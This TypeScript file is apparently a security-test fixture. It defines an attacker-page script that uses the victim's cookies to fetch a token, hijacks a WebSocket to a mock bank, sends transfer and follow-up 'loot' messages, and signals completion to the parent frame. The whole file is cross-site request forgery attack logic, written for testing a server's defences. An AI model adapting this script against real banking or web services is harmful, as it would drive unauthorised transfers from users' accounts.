/** What an attacker's page is told to do. It is written into the page as JSON. */
export interface Orders {
  /** Where to ask for a ticket first; null: none is needed. Addresses are relative to the page's. */
  readonly ticketAt: string | null;
  readonly bankAt: string;
  /** The messages to begin with, and those once a transfer was done. */
  readonly first: readonly string[];
  readonly loot: readonly string[];
  /** The `origin` that is told when all is done. */
  readonly tell: string;
}

/** What it uses of the browser that Node does not have. */
interface Page {
  readonly parent: { postMessage(message: string, to: string): void };
  readonly location: { readonly href: string };
}

/**
 * What an attacker's page does, as its own script: it is sent as text, and uses nothing but its
 * argument and the browser. What it could read is of no interest: the bank's end has the bytes.
 */
export async function attack(orders: Orders): Promise<void> {
  const { parent, location } = globalThis as unknown as Page;
  const { ticketAt, bankAt, first, loot, tell } = orders;
  const over = () => parent.postMessage("done", tell);
  const opening = [...first];
  if (ticketAt !== null) {
    let ticket = "a guess";
    try {
      const answer = await fetch(new URL(ticketAt, location.href), {
        method: "POST",
        credentials: "include",
        headers: { "X-Bank": "page" },
      });
      if (answer.ok) ticket = ((await answer.json()) as { ticket: string }).ticket;
    } catch {
      // The browser did not let it ask, or not read the answer.
    }
    opening.unshift(JSON.stringify({ do: "show ticket", ticket }));
  }
  const socket = new WebSocket(new URL(bankAt, location.href).href.replace(/^http/, "ws"));
  let due = opening.length;
  socket.onopen = () => {
    for (const message of opening) socket.send(message);
  };
  socket.onmessage = ({ data }) => {
    due -= 1;
    if (JSON.parse(data).said === "transferred") {
      for (const message of loot) socket.send(message);
      due += loot.length;
    }
    if (due === 0) socket.close(1000);
  };
  socket.onclose = over;
}
